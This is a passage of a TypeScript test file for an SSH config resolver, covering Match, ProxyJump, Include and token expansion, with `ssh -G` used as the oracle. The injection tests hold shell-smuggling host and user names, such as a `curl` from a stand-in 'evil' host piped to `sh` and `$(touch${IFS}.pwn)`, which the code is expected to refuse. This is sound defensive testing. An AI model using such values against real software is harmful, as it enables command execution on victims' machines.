// ssh_config resolution: first value wins, IdentityFile accumulates, Host patterns with * ? and !,
// ProxyJump chains with user@host:port, quoting and key=value syntax, Include, Match blocks (each
// criterion, negation, order, exec, the final pass), and `ssh -G` as the oracle for all of it.
import { describe, it, expect } from 'vitest';
import { execFileSync, spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { homedir, tmpdir, userInfo } from 'node:os';
import { join } from 'node:path';
import { hostMatches, parseJump, parseSshConfig, resolveHost, tokenizeLine } from '../../src/targets/ssh/config.js';
import { excludeFromSshConnection, parseSshUri } from '../../src/targets/ssh.js';

const CONFIG = `
# global defaults come first and apply to all hosts
ServerAliveInterval 7

Host web-* !web-legacy
  User deploy
  Port 2222
  IdentityFile ~/.ssh/web_key

Host web-?? db
  User ignored-because-first-wins
  IdentityFile "/keys/with space"

Host bastion
  HostName 198.51.100.7
  User jump

Host inner
  HostName=10.0.0.5
  ProxyJump bastion,admin@hop2:2200
  StrictHostKeyChecking accept-new

Host *
  User fallback
  IdentityFile %d/.ssh/id_%r
`;

/** Whether a process is running (a zombie has ended: it only waits to be reaped, which PID 1 of a container may never do). */
function runs(pid: number): boolean {
  try {
    return !/^\d+ \(.*\) [ZX] /s.test(readFileSync(`/proc/${pid}/stat`, 'utf8'));
  } catch {
    return false;
  }
}

describe('ssh_config', () => {
  const entries = parseSshConfig(CONFIG);

  it('applies the first value per keyword across matching blocks and accumulates IdentityFile', async () => {
    const r = await resolveHost(entries, 'web-01');
    expect(r.user).toBe('deploy');
    expect(r.port).toBe(2222);
    expect(r.hostName).toBe('web-01');
    expect(r.identityFiles).toEqual([join(homedir(), '.ssh/web_key'), '/keys/with space', join(homedir(), '.ssh/id_deploy')]);
    expect(r.serverAliveIntervalMs).toBe(7000);
  });

  it('honours negated patterns', async () => {
    const r = await resolveHost(entries, 'web-legacy');
    expect(r.user).toBe('fallback');
    expect(r.port).toBe(22);
  });

  it('lets the URI override user and port, as ssh -l/-p do', async () => {
    const r = await resolveHost(entries, 'web-01', { user: 'alice', port: 22 });
    expect([r.user, r.port]).toEqual(['alice', 22]);
    expect(r.identityFiles).toContain(join(homedir(), '.ssh/id_alice'));
  });

  it('parses ProxyJump chains with user@host:port', async () => {
    const r = await resolveHost(entries, 'inner');
    expect(r.hostName).toBe('10.0.0.5');
    expect(r.proxyJump).toEqual([
      { host: 'bastion', user: null, port: null },
      { host: 'hop2', user: 'admin', port: 2200 },
    ]);
    expect(r.strictHostKeyChecking).toBe('accept-new');
    expect(await resolveHost(entries, 'bastion')).toMatchObject({ hostName: '198.51.100.7', user: 'jump', proxyJump: [] });
  });

  it('matches ? as exactly one character and is case-insensitive on keywords', () => {
    expect(hostMatches(['web-??'], 'web-01')).toBe(true);
    expect(hostMatches(['web-??'], 'web-001')).toBe(false);
    expect(parseSshConfig('HOSTNAME x\n')[0]?.options).toEqual([['hostname', ['x']]]);
  });

  it('tokenizes key=value and quotes', () => {
    expect(tokenizeLine('IdentityFile="/a b/c"')).toEqual(['IdentityFile', '/a b/c']);
    expect(tokenizeLine('  Host a b  ')).toEqual(['Host', 'a', 'b']);
    expect(() => tokenizeLine('User "x')).toThrow(/unbalanced/);
  });

  it('follows Include files relative to ~/.ssh or absolute', async () => {
    const d = mkdtempSync(join(tmpdir(), 'tss-unit-'));
    writeFileSync(join(d, 'extra.conf'), 'Host included\n  HostName 192.0.2.9\n  Port 2022\n');
    const e = parseSshConfig(`Include ${d}/*.conf\nHost other\n  User o\n`);
    expect(await resolveHost(e, 'included')).toMatchObject({ hostName: '192.0.2.9', port: 2022 });
    expect((await resolveHost(e, 'other')).user).toBe('o');
    rmSync(d, { recursive: true, force: true });
  });

  it('reads GlobalKnownHostsFile (first line wins, several files, ~, none) and defaults to /etc/ssh/ssh_known_hosts{,2}', async () => {
    expect((await resolveHost(entries, 'db')).globalKnownHostsFiles).toEqual(['/etc/ssh/ssh_known_hosts', '/etc/ssh/ssh_known_hosts2']);
    const g = parseSshConfig([
      'Host fleet-*',
      '  GlobalKnownHostsFile ~/fleet_kh /srv/kh/%h',
      'Host off',
      '  GlobalKnownHostsFile none',
      'Host *',
      '  GlobalKnownHostsFile /ignored/because/first/wins',
      '',
    ].join('\n'));
    // ssh(1) expands ~ in GlobalKnownHostsFile but no percent tokens (only UserKnownHostsFile takes them).
    expect((await resolveHost(g, 'fleet-1')).globalKnownHostsFiles).toEqual([join(homedir(), 'fleet_kh'), '/srv/kh/%h']);
    expect((await resolveHost(g, 'off')).globalKnownHostsFiles).toEqual([]);
    expect((await resolveHost(g, 'other')).globalKnownHostsFiles).toEqual(['/ignored/because/first/wins']);
  });

  it('reads UserKnownHostsFile as ssh(1) does: the first line wins (several files, ~, %h), none is none, unset is the default', async () => {
    expect((await resolveHost(entries, 'db')).userKnownHostsFiles).toBeNull();
    const u = parseSshConfig([
      'Host fleet-*',
      '  UserKnownHostsFile ~/fleet_kh /srv/kh/%h',
      'Host off',
      '  UserKnownHostsFile none',
      'Host *',
      '  UserKnownHostsFile /not/read/for/fleet',
      '',
    ].join('\n'));
    // (a key found only in a later block's file is one ssh would not trust)
    expect((await resolveHost(u, 'fleet-1')).userKnownHostsFiles).toEqual([join(homedir(), 'fleet_kh'), '/srv/kh/fleet-1']);
    expect((await resolveHost(u, 'off')).userKnownHostsFiles).toEqual([]);
    expect((await resolveHost(u, 'other')).userKnownHostsFiles).toEqual(['/not/read/for/fleet']);
  });

  it('parses destinations and URIs, including IPv6', () => {
    expect(parseJump('[fd00::1]:2222')).toEqual({ host: 'fd00::1', user: null, port: 2222 });
    expect(parseSshUri('ssh://root@10.0.0.1:2200')).toEqual({ host: '10.0.0.1', user: 'root', port: 2200 });
    expect(parseSshUri('ssh://alias')).toEqual({ host: 'alias', user: null, port: null });
    expect(() => parseSshUri('ssh://host:99999')).toThrow(/user@host:port/);
  });

  it('refuses host and user names with shell metacharacters or control characters, as OpenSSH 9.6 does (CVE-2023-51385)', () => {
    const refused = (f: () => unknown, what: string) => expect(f).toThrow(expect.objectContaining({
      code: 'E_TARGET_INVALID', message: expect.stringMatching(new RegExp(`^The SSH ${what} name .* Tapscope refuses it, as OpenSSH 9.6 does`)),
    }));
    for (const host of ['a;curl${IFS}evil|sh', 'a`id`', 'x$y', "a'b", 'a"b', 'a\\b', 'a&b', 'a<b', 'a>b', 'a(b)', 'a{b}', 'a,b', '-oProxyCommand=x', 'a\tb', 'a\x01b', 'a\x7fb']) {
      refused(() => parseJump(host), 'host');
      refused(() => parseSshUri(`ssh://u@${host}`), 'host');
    }
    for (const user of ['$(touch${IFS}.pwn)', 'a;b', 'a`id`', "a'b", 'a|b', '-oX', 'a -x', 'trailing\\', 'a\nb', 'a\x1bb']) {
      refused(() => parseJump(`${encodeURIComponent(user)}@prod`), 'user');
    }
    refused(() => parseSshUri('ssh://$(touch${IFS}.pwn)@prod'), 'user');
    expect(() => parseSshUri('ssh://a;curl${IFS}evil|sh')).toThrow('The SSH host name "a;curl${IFS}evil|sh" contains ";"');
    // What OpenSSH 9.6 accepts: IPv6 with a zone, $ and \ and spaces in a user name (Windows accounts).
    expect(parseJump('fe80::1%eth0')).toEqual({ host: 'fe80::1%eth0', user: null, port: null });
    expect(parseJump(`${encodeURIComponent('CORP\\ann b$')}@web-01.example:22`)).toEqual({ host: 'web-01.example', user: 'CORP\\ann b$', port: 22 });
  });

  it('derives the excluded endpoint from $SSH_CONNECTION as the server sees it', () => {
    expect(excludeFromSshConnection('10.0.0.1 51234 10.0.0.2 22')).toEqual({ client: '10.0.0.1:51234', server: '10.0.0.2:22' });
    expect(excludeFromSshConnection('fd00::1 40000 fd00::2 2222')).toEqual({ client: '[fd00::1]:40000', server: '[fd00::2]:2222' });
    expect(excludeFromSshConnection('')).toBeNull();
  });
});

describe('ProxyCommand', () => {
  it('is read, the first of ProxyJump and ProxyCommand winning as in OpenSSH, and connecting refuses rather than going around it', async () => {
    const e = parseSshConfig([
      'Host via-cmd', '  ProxyCommand ssh -W %h:%p bastion',
      'Host jump-first', '  ProxyJump bastion', '  ProxyCommand nc %h %p',
      'Host cmd-first', '  ProxyCommand nc %h %p', '  ProxyJump bastion',
      'Host cmd-none', '  ProxyCommand none', '  ProxyJump bastion',
    ].join('\n'));
    expect(await resolveHost(e, 'via-cmd')).toMatchObject({ proxyCommand: 'ssh -W %h:%p bastion', proxyJump: [] });
    expect(await resolveHost(e, 'jump-first')).toMatchObject({ proxyCommand: null, proxyJump: [{ host: 'bastion' }] });
    expect(await resolveHost(e, 'cmd-first')).toMatchObject({ proxyCommand: 'nc %h %p', proxyJump: [] });
    expect(await resolveHost(e, 'cmd-none')).toMatchObject({ proxyCommand: null, proxyJump: [{ host: 'bastion' }] });
    expect((await resolveHost(e, 'other')).proxyCommand).toBeNull();
    const { connectSsh } = await import('../../src/targets/ssh/connect.js');
    const dir = mkdtempSync(join(tmpdir(), 'tsc-sshpc-'));
    try {
      writeFileSync(join(dir, 'config'), 'Host via-cmd\n  HostName 192.0.2.1\n  ProxyCommand ssh -W %h:%p bastion\n');
      await expect(connectSsh({ host: 'via-cmd', user: null, port: null }, { sshConfigPath: join(dir, 'config') } as never)).rejects.toMatchObject({
        code: 'E_TARGET_INVALID', message: expect.stringMatching(/^~\/\.ssh\/config reaches via-cmd through ProxyCommand \(ssh -W %h:%p bastion\), which tapscope does not run/),
      });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});

describe('Match', () => {
  const me = userInfo().username;
  const resolve = (lines: string[], alias: string, overrides: { user?: string; port?: number } = {}) =>
    resolveHost(parseSshConfig(lines.join('\n'), { file: '/cfg' }), alias, overrides);
  const withDir = async (fn: (dir: string) => Promise<void>): Promise<void> => {
    const dir = mkdtempSync(join(tmpdir(), 'tss-match-'));
    try {
      await fn(dir);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  };

  it('matches host against the HostName resolved so far (after %h), not the name typed', async () => {
    const lines = ['Host db', '  HostName db.internal', 'Match host db', '  Port 1', 'Match host *.internal', '  User svc', '  Port 2'];
    expect(await resolve(lines, 'db')).toMatchObject({ hostName: 'db.internal', user: 'svc', port: 2 });
    expect((await resolve(['Host *', '  HostName %h.corp', 'Match host web.corp', '  User w'], 'web')).user).toBe('w');
    // With no HostName, the host is the name typed.
    expect((await resolve(lines, 'x.INTERNAL')).user).toBe('svc');
  });

  it('matches originalhost against the name typed', async () => {
    const lines = ['Host db', '  HostName 10.0.0.5', 'Match originalhost 10.0.0.5', '  User wrong', 'Match originalhost db', '  User typed'];
    expect((await resolve(lines, 'db')).user).toBe('typed');
  });

  it('matches user against the user resolved so far (the URI user first, as ssh -l), case-sensitively, and localuser against the local account', async () => {
    const lines = [
      'Host ops', '  User admin',
      'Match user admin', '  Port 2200',
      'Match user Admin', '  Port 9',
      `Match localuser ${me}`, '  IdentityFile /keys/mine',
      `Match localuser !${me}`, '  IdentityFile /keys/other',
    ];
    expect(await resolve(lines, 'ops')).toMatchObject({ user: 'admin', port: 2200, identityFiles: ['/keys/mine'] });
    expect(await resolve(lines, 'ops', { user: 'Admin' })).toMatchObject({ user: 'Admin', port: 9 });
  });

  it('negates a criterion with ! and takes comma-separated pattern lists with * ? and !', async () => {
    const lines = [
      'Match !host bastion-*', '  ProxyJump jump@bastion-1',
      'Match host web-??,!web-00', '  Port 2222',
      'Match !originalhost db', '  User notdb',
    ];
    expect(await resolve(lines, 'web-01')).toMatchObject({ port: 2222, user: 'notdb', proxyJump: [{ host: 'bastion-1', user: 'jump', port: null }] });
    expect((await resolve(lines, 'web-00')).port).toBe(22);
    expect((await resolve(lines, 'web-001')).port).toBe(22);
    expect((await resolve(lines, 'bastion-1')).proxyJump).toEqual([]);
    expect((await resolve(lines, 'db')).user).toBe(me);
  });

  it('needs every criterion of a line to hold; `all` holds for any host and stands alone', async () => {
    const lines = [
      'Match originalhost app user deploy', '  Port 2022',
      'Match originalhost app !user deploy', '  Port 3033',
      'Match !all', '  User never',
      'Match all', '  User everyone',
    ];
    expect((await resolve(lines, 'app', { user: 'deploy' })).port).toBe(2022);
    expect((await resolve(lines, 'app', { user: 'other' })).port).toBe(3033);
    expect((await resolve(lines, 'api', { user: 'deploy' })).port).toBe(22);
    expect((await resolve(lines, 'anything')).user).toBe('everyone');
    await expect(resolve(['Match all host x', '  User u'], 'x')).rejects.toThrow(/\/cfg line 1: 'all' cannot be combined/);
  });

  it('applies in file order, first value winning, and sees only the values of the blocks above it', async () => {
    const lines = [
      'Host a', '  User fromhost',
      'Match originalhost a', '  User frommatch', '  Port 1000',
      'Host *', '  Port 2000',
    ];
    expect(await resolve(lines, 'a')).toMatchObject({ user: 'fromhost', port: 1000 });
    const middle = [
      'Match user early', '  Port 1111',
      'Match host real', '  IdentityFile /keys/too-early',
      'Host a', '  User early', '  HostName real',
      'Match user early host real', '  Port 2222',
    ];
    const r = await resolve(middle, 'a');
    expect(r).toMatchObject({ user: 'early', hostName: 'real', port: 2222 });
    expect(r.identityFiles).not.toContain('/keys/too-early');
  });

  it('runs exec in the user\'s shell with the tokens expanded, and holds when it exits 0', async () => {
    const lines = [
      'Host alias-a', '  HostName real.example', '  Port 2200', '  User bob',
      'Match exec "test %n = alias-a && test %h = real.example && test %p = 2200 && test %r = bob && test %u = \'' + me + '\' && test 100%% = 100%"',
      '  IdentityFile /keys/exec-true',
      'Match exec false', '  IdentityFile /keys/exec-false',
    ];
    expect((await resolve(lines, 'alias-a')).identityFiles).toEqual(['/keys/exec-true']);
    expect((await resolve(lines, 'alias-b')).identityFiles).toEqual(expect.not.arrayContaining(['/keys/exec-true', '/keys/exec-false']));
    await expect(resolve(['Match exec "echo %Z"', '  User u'], 'x')).rejects.toThrow(/\/cfg line 1: Match exec uses the token %Z/);
  });

  it('runs an exec only while the criteria before it on the line hold', async () => {
    await withDir(async (dir) => {
      const lines = [
        `Match originalhost other exec "touch ${dir}/skipped"`, '  User u1',
        `Match originalhost here exec "touch ${dir}/ran"`, '  User u2',
      ];
      expect((await resolve(lines, 'here')).user).toBe('u2');
      expect(existsSync(join(dir, 'ran'))).toBe(true);
      expect(existsSync(join(dir, 'skipped'))).toBe(false);
    });
  });

  const withShell = async (shell: string | undefined, fn: () => Promise<void>): Promise<void> => {
    const saved = process.env.SHELL;
    try {
      if (shell === undefined) delete process.env.SHELL;
      else process.env.SHELL = shell;
      await fn();
    } finally {
      if (saved === undefined) delete process.env.SHELL;
      else process.env.SHELL = saved;
    }
  };

  it('refuses to resolve, as ssh(1) does (fatal), when an exec cannot run or is killed by a signal, naming file, line and command', async () => {
    const failed = (why: string) => expect.objectContaining({
      code: 'E_TARGET_INVALID', message: expect.stringMatching(new RegExp(`^/cfg line 2: Match exec '.*' ${why}; tapscope does not resolve the host`)),
    });
    const lines = ['Host *', 'Match !exec "on-vpn-check"', '  ProxyJump bastion'];
    await withDir(async (dir) => {
      await withShell(join(dir, 'no-such-shell'), async () => {
        await expect(resolve(lines, 'here')).rejects.toThrow(failed('cannot run: the shell .*no-such-shell did not start \\(ENOENT\\)'));
        // An exec that is not run (a criterion before it fails) needs no shell.
        expect((await resolve(['Match originalhost other exec true', '  User u1'], 'here')).user).toBe(me);
      });
    });
    await withShell('', () => expect(resolve(lines, 'here')).rejects.toThrow(failed('cannot run: \\$SHELL is empty')));
    await withShell(undefined, async () => expect((await resolve(['Match exec "test -n \\"$0\\""', '  User sh'], 'here')).user).toBe('sh'));
    for (const negation of ['', '!']) {
      await expect(resolve(['', `Match ${negation}exec "kill -TERM $$"`, '  User u'], 'here')).rejects.toThrow(failed('was killed by SIGTERM'));
    }
  });

  it('refuses to resolve when an exec outlasts 10 s', async () => {
    const started = Date.now();
    await expect(resolve(['', 'Match exec "sleep 30"', '  User u'], 'here')).rejects.toThrow(/^\/cfg line 2: Match exec 'sleep 30' did not finish within 10 s/);
    expect(Date.now() - started).toBeLessThan(20_000);
  }, 25_000);

  it('keeps the event loop turning while an exec runs, and runs the execs of several lines one after the other, in file order', async () => {
    await withDir(async (dir) => {
      const lines = [
        `Match exec "sleep 1; echo first >> ${dir}/order"`, '  User slept',
        `Match exec "echo second >> ${dir}/order"`, '  Port 2200',
      ];
      let ticks = 0;
      const ticker = setInterval(() => ticks++, 50);
      try {
        expect(await resolve(lines, 'here')).toMatchObject({ user: 'slept', port: 2200 });
      } finally {
        clearInterval(ticker);
      }
      // (about 20 in the second the first exec sleeps; none if resolving held the event loop)
      expect(ticks).toBeGreaterThanOrEqual(5);
      expect(readFileSync(join(dir, 'order'), 'utf8')).toBe('first\nsecond\n');
    });
  });

  it('kills an exec that outlasts its time with all it started in the background (its process group)', async () => {
    await withDir(async (dir) => {
      const config = parseSshConfig(['', `Match exec "sleep 30 & echo $! > ${dir}/child; sleep 30"`, '  User u'].join('\n'), { file: '/cfg' });
      const started = Date.now();
      await expect(resolveHost(config, 'here', {}, { execTimeoutMs: 1000 })).rejects.toThrow(/^\/cfg line 2: Match exec '.*' did not finish within 1 s/);
      expect(Date.now() - started).toBeLessThan(5000);
      const child = Number(readFileSync(join(dir, 'child'), 'utf8'));
      try {
        await expect.poll(() => runs(child), { timeout: 2000 }).toBe(false);
      } finally {
        if (runs(child)) process.kill(child, 'SIGKILL');
      }
    });
  });

  it('kills an exec under way when tapscope quits (it runs in a session of its own, away from the terminal\'s Ctrl-C)', async () => {
    await withDir(async (dir) => {
      const pidFile = join(dir, 'pid');
      const config = new URL('../../src/targets/ssh/config.ts', import.meta.url).href;
      // (quits once the command has started, as capture's second Ctrl-C does with process.exit(130))
      const script = `
        import { readFileSync } from 'node:fs';
        import { parseSshConfig, resolveHost } from ${JSON.stringify(config)};
        void resolveHost(parseSshConfig(${JSON.stringify(`Match exec "echo $$ > ${pidFile}; sleep 30; true"
  User u
`)}), 'h');
        setInterval(() => {
          try { if (readFileSync(${JSON.stringify(pidFile)}, 'utf8').endsWith('\\n')) process.exit(130); } catch {}
        }, 20);
      `;
      const quit = spawnSync(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', script], { encoding: 'utf8', timeout: 15_000 });
      expect(quit.status, quit.stderr).toBe(130);
      const shell = Number(readFileSync(pidFile, 'utf8'));
      try {
        await expect.poll(() => runs(shell), { timeout: 2000 }).toBe(false);
      } finally {
        if (runs(shell)) process.kill(-shell, 'SIGKILL');
      }
    });
  });

  it('does not run a Match exec with a host or user name a shell would read: resolving refuses the name first', async () => {
    await withDir(async (dir) => {
      const lines = ['Match exec "true %h %n %r"', '  User u'];
      await expect(resolve(lines, `x;touch\${IFS}${dir}/pwned-host`)).rejects.toThrow(/^The SSH host name "x;touch\$\{IFS\}.*" contains ";"/);
      await expect(resolve(lines, 'x', { user: `u;touch\${IFS}${dir}/pwned-user` })).rejects.toThrow(/^The SSH user name "u;touch/);
      // A ProxyJump host is checked as well: ssh(1) hands it to another ssh on the command line.
      await expect(resolve(['Host x', `  ProxyJump j;touch\${IFS}${dir}/pwned-jump`], 'x')).rejects.toThrow(/^The SSH host name "j;touch/);
      expect(existsSync(join(dir, 'pwned-host')) || existsSync(join(dir, 'pwned-user'))).toBe(false);
    });
  });

  it('takes criterion=value in a Match line, as readconf.c does', async () => {
    const lines = ['Match host=y', '  Port 3', 'Match host=y,z user=me', '  Port 4', 'Match originalhost=z exec="true"', '  User zed'];
    expect((await resolve(lines, 'y')).port).toBe(3);
    expect(await resolve(lines, 'z', { user: 'me' })).toMatchObject({ port: 4, user: 'me' });
    expect(await resolve(lines, 'z')).toMatchObject({ port: 22, user: 'zed' });
    expect(tokenizeLine('IdentityFile=/a=b')).toEqual(['IdentityFile', '/a=b']);
  });

  it('lower-cases the resolved host, as ssh(1) does after reading the config; the first pass sees it as written', async () => {
    await withDir(async (dir) => {
      const lines = [
        'Host x', '  HostName FOO.Example',
        `Match exec "echo pass %h %n >> ${dir}/seen"`, '  UserKnownHostsFile /kh/%h',
        `Match final exec "echo final %h %n >> ${dir}/seen"`, '  User u',
        'Host foo.example', '  Port 2',
      ];
      expect(await resolve(lines, 'x')).toMatchObject({ hostName: 'foo.example', port: 2, userKnownHostsFiles: ['/kh/foo.example'] });
      expect(readFileSync(join(dir, 'seen'), 'utf8')).toBe('pass FOO.Example x\npass foo.example x\nfinal foo.example x\n');
      expect((await resolve(['Host y', '  HostName BAR.Example'], 'y')).hostName).toBe('bar.example');
      expect((await resolve([], 'BAZ')).hostName).toBe('baz');
    });
  });

  it('reads the config again for `Match final` with the host resolved, as ssh(1) does; `canonical` holds only in that pass', async () => {
    const lines = [
      'Host alias', '  HostName real.example',
      'Match final host real.example', '  Port 2201',
      'Match canonical', '  User canon',
      'Host real.example', '  IdentityFile /keys/real',
      'Match !final', '  IdentityFile /keys/first-pass',
      'Match originalhost alias', '  IdentityFile /keys/both',
    ];
    expect(await resolve(lines, 'alias')).toMatchObject({
      hostName: 'real.example', port: 2201, user: 'canon', identityFiles: ['/keys/first-pass', '/keys/both', '/keys/real'],
    });
    // Without a `final` criterion there is no second pass: neither canonical nor the Host line for the resolved name apply.
    const noFinal = lines.map((l) => l.replace('Match final host', 'Match host').replace('Match !final', 'Match all'));
    expect(await resolve(noFinal, 'alias')).toMatchObject({ port: 2201, user: me, identityFiles: ['/keys/first-pass', '/keys/both'] });
  });

  it('reads the config again for `Match !final` too: any `final` criterion asks for the final pass, as in readconf.c', async () => {
    const cases: Array<[string, { user: string; port: number }]> = [
      ['Match !final', { user: 'firstpass', port: 2222 }],
      ['Match final', { user: 'firstpass', port: 2222 }],
      ['Match originalhost nomatch !final', { user: me, port: 2222 }],
      ['Match originalhost nomatch', { user: me, port: 22 }],
    ];
    for (const [line, want] of cases) {
      expect(await resolve([line, '  User firstpass', 'Match canonical', '  Port 2222'], 'somehost')).toMatchObject(want);
    }
  });

  it('refuses criteria it cannot evaluate, naming the file, the line and the criterion', async () => {
    for (const criterion of ['tagged prod', 'localnetwork 10.0.0.0/8', 'version 9', 'sessiontype shell', 'bogus x']) {
      const lines = ['Host a', `  Match ${criterion}`, '  User u'];
      const name = criterion.split(' ')[0] as string;
      await expect(resolve(lines, 'a')).rejects.toThrow(expect.objectContaining({
        code: 'E_TARGET_INVALID', message: expect.stringMatching(new RegExp(`^/cfg line 2: tapscope cannot evaluate the Match criterion "${name}"`)),
      }));
    }
    await expect(resolve(['Match host', '  User u'], 'a')).rejects.toThrow(/\/cfg line 1: Match host needs an argument/);
    await expect(resolve(['', 'Match', '  User u'], 'a')).rejects.toThrow(/\/cfg line 2: Match needs at least one criterion/);
    // An unknown criterion in an Included file names that file.
    await withDir(async (dir) => {
      writeFileSync(join(dir, 'inc.conf'), '# first line\nMatch tagged x\n  User u\n');
      await expect(resolveHost(parseSshConfig(`Include ${dir}/inc.conf\n`), 'a')).rejects.toThrow(`${join(dir, 'inc.conf')} line 2: tapscope cannot evaluate the Match criterion "tagged"`);
    });
  });

  it('applies an Include inside a Match block only when the Match holds, and evaluates the Match once', async () => {
    await withDir(async (dir) => {
      writeFileSync(join(dir, 'inc.conf'), 'User incuser\nHost *\n  IdentityFile /keys/inc\n');
      const text = [
        `Match originalhost inner exec "echo x >> ${dir}/count"`,
        `  Include ${dir}/inc.conf`,
        '  Port 2022',
        'Host *', '  IdentityFile /keys/all',
      ].join('\n');
      const e = parseSshConfig(text);
      expect(await resolveHost(e, 'inner')).toMatchObject({ user: 'incuser', port: 2022, identityFiles: ['/keys/inc', '/keys/all'] });
      expect(readFileSync(join(dir, 'count'), 'utf8')).toBe('x\n');
      expect(await resolveHost(e, 'outer')).toMatchObject({ user: me, port: 22, identityFiles: ['/keys/all'] });
    });
  });

  it('applies the blocks of a file Included in a Host block only for that host, as ssh(1) does', async () => {
    await withDir(async (dir) => {
      writeFileSync(join(dir, 'inc.conf'), 'User incuser\nHost b\n  Port 2002\n');
      const e = parseSshConfig(`Host zz\n  Include ${dir}/inc.conf\n  IdentityFile /keys/after\nHost *\n  Port 9\n`);
      expect(await resolveHost(e, 'b')).toMatchObject({ user: me, port: 9 });
      expect(await resolveHost(e, 'zz')).toMatchObject({ user: 'incuser', port: 9, identityFiles: ['/keys/after'] });
    });
  });
});

describe('${VAR} and %-tokens in path options', () => {
  const resolve = (lines: string[], alias: string) => resolveHost(parseSshConfig(lines.join('\n'), { file: '/cfg' }), alias);
  const withEnv = async (name: string, value: string | undefined, fn: () => Promise<void>): Promise<void> => {
    const saved = process.env[name];
    try {
      if (value === undefined) delete process.env[name];
      else process.env[name] = value;
      await fn();
    } finally {
      if (saved === undefined) delete process.env[name];
      else process.env[name] = saved;
    }
  };

  it('expands ${VAR} from the environment in UserKnownHostsFile, IdentityFile and IdentityAgent, with the tokens, in one pass', async () => {
    await withEnv('TAPSCOPE_T_DIR', '/env/dir%h', async () => {
      const r = await resolve([
        'Host web', '  HostName Web.Example',
        '  UserKnownHostsFile ${TAPSCOPE_T_DIR}/kh-%h ~/kh2',
        '  IdentityFile ${TAPSCOPE_T_DIR}/id_%r',
        '  IdentityAgent ${TAPSCOPE_T_DIR}/agent.sock',
        '  User ann',
      ], 'web');
      // (a value from the environment is not expanded again: its %h stays)
      expect(r.userKnownHostsFiles).toEqual(['/env/dir%h/kh-web.example', join(homedir(), 'kh2')]);
      expect(r.identityFiles).toEqual(['/env/dir%h/id_ann']);
      expect(r.identityAgent).toBe('/env/dir%h/agent.sock');
    });
    expect((await resolve(['IdentityAgent $SSH_AUTH_SOCK'], 'h')).identityAgent).toBe('$SSH_AUTH_SOCK');
    expect((await resolve(['IdentityAgent none'], 'h')).identityAgent).toBe('none');
    expect((await resolve(['UserKnownHostsFile /kh/$HOME/100%%'], 'h')).userKnownHostsFiles).toEqual(['/kh/$HOME/100%']);
  });

  it('refuses an unset variable, an unclosed ${ and an unknown token, as ssh(1) does (fatal)', async () => {
    await withEnv('TAPSCOPE_T_UNSET', undefined, async () => {
      const bad: Array<[string, RegExp]> = [
        ['UserKnownHostsFile ${TAPSCOPE_T_UNSET}/kh', /^ssh config: UserKnownHostsFile \$\{TAPSCOPE_T_UNSET\}\/kh: the environment variable TAPSCOPE_T_UNSET is not set/],
        ['IdentityFile /k/${HOME', /^ssh config: IdentityFile \/k\/\$\{HOME: \$\{HOME has no closing "\}"/],
        ['IdentityFile /k/${}', /"\$\{\}" names no environment variable/],
        ['UserKnownHostsFile /kh/%Z', /^ssh config: UserKnownHostsFile \/kh\/%Z: the token %Z is not one ssh\(1\) expands there/],
        ['IdentityFile /k/%j', /the token %j/],
        ['IdentityAgent /a/${TAPSCOPE_T_UNSET}', /^ssh config: IdentityAgent/],
        ['IdentityFile /k/%', /a "%" ends it/],
      ];
      for (const [line, message] of bad) {
        await expect(resolve([line], 'h')).rejects.toThrow(expect.objectContaining({ code: 'E_TARGET_INVALID', message: expect.stringMatching(message) }));
      }
    });
  });
});

describe('ssh -G as the oracle', () => {
  const hasSsh = (() => {
    try {
      execFileSync('ssh', ['-V'], { stdio: 'ignore' });
      return true;
    } catch {
      return false;
    }
  })();

  it.skipIf(!hasSsh)('agrees with `ssh -G` on !final, criterion=value, the host\'s case, ${VAR} in UserKnownHostsFile and IdentityAgent, and a killed exec', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'tss-oracle2-'));
    const saved = process.env.TAPSCOPE_T_KH;
    process.env.TAPSCOPE_T_KH = join(dir, 'kh');
    try {
      const configs: Array<[string[], string]> = [
        [['Match !final', '  User firstpass', 'Match canonical', '  Port 2222'], 'somehost'],
        [['Match host=y', '  Port 3', 'Match host=y,z originalhost=y', '  User four'], 'y'],
        [['Host x', '  HostName FOO.Example', 'Match final host foo.example', '  Port 2', '  UserKnownHostsFile ${TAPSCOPE_T_KH}/%h %d/%n'], 'x'],
        [['Host x', '  HostName FOO.Example', '  IdentityAgent ${TAPSCOPE_T_KH}/agent-%h-%r', '  UserKnownHostsFile ${TAPSCOPE_T_KH}'], 'x'],
        [['UserKnownHostsFile ~/kh/%h'], 'UPPER.Example'],
      ];
      for (const [[...lines], alias] of configs) {
        const file = join(dir, 'config');
        writeFileSync(file, `${lines.join('\n')}\n`);
        const out = execFileSync('ssh', ['-G', '-F', file, alias], { stdio: ['ignore', 'pipe', 'pipe'] }).toString();
        const field = (k: string) => out.split('\n').find((l) => l.startsWith(`${k} `))?.slice(k.length + 1);
        const r = await resolveHost(parseSshConfig(lines.join('\n'), { file }), alias);
        expect({ hostname: r.hostName, user: r.user, port: String(r.port), kh: r.userKnownHostsFiles?.join(' ') ?? field('userknownhostsfile'), agent: r.identityAgent ?? field('identityagent') })
          .toEqual({ hostname: field('hostname'), user: field('user'), port: field('port'), kh: field('userknownhostsfile'), agent: field('identityagent') });
      }
      const file = join(dir, 'config');
      writeFileSync(file, 'Host *\nMatch exec "kill -TERM $$"\n  User u\n');
      expect(() => execFileSync('ssh', ['-G', '-F', file, 'h'], { stdio: ['ignore', 'pipe', 'pipe'] })).toThrow(/line 2: match exec 'kill -TERM \$\$' error/);
      await expect(resolveHost(parseSshConfig('Host *\nMatch exec "kill -TERM $$"\n  User u\n', { file }), 'h')).rejects.toThrow(`${file} line 2: Match exec 'kill -TERM $$' was killed by SIGTERM`);
    } finally {
      if (saved === undefined) delete process.env.TAPSCOPE_T_KH;
      else process.env.TAPSCOPE_T_KH = saved;
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it.skipIf(!hasSsh)('resolves hostname, user, port, identity files, ProxyJump and exec tokens as `ssh -G` does for a config using Match', async () => {
    const me = userInfo().username;
    const dir = mkdtempSync(join(tmpdir(), 'tss-oracle-'));
    try {
      writeFileSync(join(dir, 'match.conf'), 'User incuser\nHost inc-b\n  Port 2002\n  User incb\n');
      writeFileSync(join(dir, 'host.conf'), 'Host b-host\n  Port 2003\n');
      const config = [
